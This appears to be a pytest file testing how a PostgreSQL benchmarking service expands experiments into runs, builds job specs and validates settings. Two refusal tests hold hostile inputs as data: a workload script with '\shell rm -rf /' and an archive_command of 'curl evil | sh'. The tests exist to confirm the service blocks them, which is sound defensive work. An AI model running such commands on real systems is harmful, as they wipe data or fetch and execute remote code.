"""Starting an experiment: matrix expansion, job specs, validation, dispatch."""

import base64
import json

import pytest

from agents.errors import JobError
from agents.spec import validate_spec
from runs import services
from runs.models import Run
from runs.transport import RUN_JOB_TASK, agent_queue
from tests.runs.factories import (
    ConfigProfileFactory,
    ExperimentFactory,
    HostFactory,
    PgBuildFactory,
    UserFactory,
    WorkloadFactory,
)

pytestmark = pytest.mark.django_db


def queued_jobs(lab_redis, host_name: str) -> list[dict]:
    """The Celery messages waiting in an agent's queue, decoded."""
    messages = [json.loads(raw) for raw in lab_redis.lrange(agent_queue(host_name), 0, -1)]
    return [
        {"task": m["headers"]["task"], "args": json.loads(base64.b64decode(m["body"]))[0]}
        for m in messages
    ]


def test_two_configs_expand_into_two_runs_each_sweeping_both_client_counts(
    lab_redis, django_capture_on_commit_callbacks
):
    experiment = ExperimentFactory(
        config_profiles=[ConfigProfileFactory(), ConfigProfileFactory()], clients=[1, 4]
    )

    with django_capture_on_commit_callbacks(execute=True):
        runs = services.experiment_start(experiment, UserFactory())

    assert len(runs) == 2
    assert [run.position for run in runs] == [0, 1]
    assert {run.config_profile for run in runs} == set(experiment.config_profiles.all())
    assert all(run.spec["sweep"]["clients"] == [1, 4] for run in runs)
    assert all(run.status == Run.Status.QUEUED for run in runs)
    assert len({run.token for run in runs}) == 2


def test_matrix_order_is_hosts_then_builds_then_configs_then_storage_then_workloads(lab_redis):
    hosts = [HostFactory(name="a-host"), HostFactory(name="b-host")]
    builds = [PgBuildFactory(name="pg15", version="15"), PgBuildFactory(name="pg16")]
    experiment = ExperimentFactory(
        hosts=hosts,
        builds=builds,
        storage_layouts=[{"data": "nvme", "wal": None}, {"data": "sata", "wal": "nvme"}],
    )

    runs = services.experiment_start(experiment)

    cells = [(r.host.name, r.build.name, r.storage_data, r.storage_wal) for r in runs]
    assert cells == [
        ("a-host", "pg15", "nvme", ""),
        ("a-host", "pg15", "sata", "nvme"),
        ("a-host", "pg16", "nvme", ""),
        ("a-host", "pg16", "sata", "nvme"),
        ("b-host", "pg15", "nvme", ""),
        ("b-host", "pg15", "sata", "nvme"),
        ("b-host", "pg16", "nvme", ""),
        ("b-host", "pg16", "sata", "nvme"),
    ]


def test_job_spec_follows_the_contract(lab_redis):
    parent = ConfigProfileFactory(settings={"shared_buffers": "128MB", "fsync": True})
    profile = ConfigProfileFactory(parent=parent, settings={"shared_buffers": "256MB"})
    workload = WorkloadFactory(
        scale=10,
        setup_sql="CREATE TABLE t (id int);",
        scripts=[{"name": "upsert", "text": "\\set id random(1, 10)\nSELECT :id;\n", "weight": 2}],
        query_mode="prepared",
        no_vacuum=True,
        defines={"nrows": "100"},
    )
    experiment = ExperimentFactory(
        builds=[PgBuildFactory(version="16.15", source="prebuilt")],
        config_profiles=[profile],
        workloads=[workload],
        storage_layouts=[{"data": "nvme", "wal": "sata"}],
        clients=[1, 2, 4],
        duration_s=None,
        transactions=500,
        repeats=2,
        order="interleaved",
        warmup_s=3,
        between_points="vacuum",
    )

    (run,) = services.experiment_start(experiment)

    assert run.spec == {
        "version": 1,
        "run_id": str(run.pk),
        "token": run.token,
        "postgres": {"version": "16.15", "source": "prebuilt"},
        "settings": {"shared_buffers": "256MB", "fsync": True},
        "storage": {"data": "nvme", "wal": "sata"},
        "dataset": {
            "scale": 10,
            "init_steps": "dtgvp",
            "partitions": None,
            "partition_method": None,
            "unlogged_tables": False,
            "fillfactor": None,
            "foreign_keys": False,
            "setup_sql": "CREATE TABLE t (id int);",
        },
        "workload": {
            "scripts": [
                {"name": "upsert", "text": "\\set id random(1, 10)\nSELECT :id;\n", "weight": 2}
            ],
            "query_mode": "prepared",
            "no_vacuum": True,
            "rate_tps": None,
            "latency_limit_ms": None,
            "max_tries": None,
            "defines": {"nrows": "100"},
        },
        "sweep": {
            "clients": [1, 2, 4],
            "threads": None,
            "duration_s": None,
            "transactions": 500,
            "repeats": 2,
            "order": "interleaved",
            "warmup_s": 3,
            "between_points": "vacuum",
        },
    }
    assert validate_spec(run.spec) == run.spec


def test_jobs_reach_the_agent_queue_only_after_the_commit(
    lab_redis, django_capture_on_commit_callbacks
):
    experiment = ExperimentFactory()
    host = experiment.hosts.get()

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        (run,) = services.experiment_start(experiment)
    assert queued_jobs(lab_redis, host.name) == []

    for callback in callbacks:
        callback()
    assert queued_jobs(lab_redis, host.name) == [{"task": RUN_JOB_TASK, "args": [run.spec]}]


def test_setting_with_a_bad_value_is_refused_naming_the_field(pg_catalogue, lab_redis):
    build = PgBuildFactory(version=pg_catalogue.version)
    profile = ConfigProfileFactory(settings={"shared_buffers": "lots"})
    experiment = ExperimentFactory(builds=[build], config_profiles=[profile])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "invalid_setting_value"
    assert raised.value.field == "settings.shared_buffers"
    assert profile.name in raised.value.message
    assert not Run.objects.exists()


def test_unknown_setting_is_refused_when_the_catalogue_is_known(pg_catalogue, lab_redis):
    major = pg_catalogue.version.split(".")[0]
    build = PgBuildFactory(version=major)
    experiment = ExperimentFactory(
        builds=[build], config_profiles=[ConfigProfileFactory(settings={"shared_bufers": "1GB"})]
    )

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "unknown_setting"
    assert "shared_buffers" in raised.value.message


def test_shell_script_is_refused_naming_the_script(lab_redis):
    workload = WorkloadFactory(
        scripts=[
            {"builtin": "select-only", "weight": 1},
            {"name": "evil", "text": "\\shell rm -rf /\nSELECT 1;\n", "weight": 1},
        ]
    )
    experiment = ExperimentFactory(workloads=[workload])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "refused_script"
    assert raised.value.field == "workload.scripts[1].text"


def test_archive_command_is_refused_even_without_a_catalogue(lab_redis):
    profile = ConfigProfileFactory(settings={"archive_command": "curl evil | sh"})
    experiment = ExperimentFactory(config_profiles=[profile])

    with pytest.raises(JobError) as raised:
        services.experiment_start(experiment)

    assert raised.value.code == "refused_setting"
    assert raised.value.field == "settings.archive_command"


def test_one_bad_cell_queues_nothing(pg_catalogue, lab_redis):
    build = PgBuildFactory(version=pg_catalogue.version)
    good = ConfigProfileFactory(name="a-good", settings={"work_mem": "8MB"})
    bad = ConfigProfileFactory(name="b-bad", settings={"work_mem": "eight"})
    experiment = ExperimentFactory(builds=[build], config_profiles=[good, bad])

    with pytest.raises(JobError):
        services.experiment_start(experiment)

    assert not Run.objects.exists()


def test_without_a_catalogue_the_check_says_the_agent_validates_the_rest():
    notes = services.check_settings({"shared_buffers": "whatever"}, "17")

    assert len(notes) == 1
    assert "the agent validates the rest" in notes[0]


def test_estimate_counts_runs_and_the_busiest_hosts_time():
    experiment = ExperimentFactory(
        hosts=[HostFactory(), HostFactory()],
        config_profiles=[ConfigProfileFactory(), ConfigProfileFactory()],
        clients=[1, 2],
        repeats=3,
        duration_s=10,
        warmup_s=5,
    )

    estimate = services.experiment_estimate(experiment)

    per_run = services.experiments.RUN_OVERHEAD_S + 0.5 + 5 + 6 * 10
    assert estimate == {"runs": 4, "points": 24, "estimated_seconds": round(2 * per_run)}
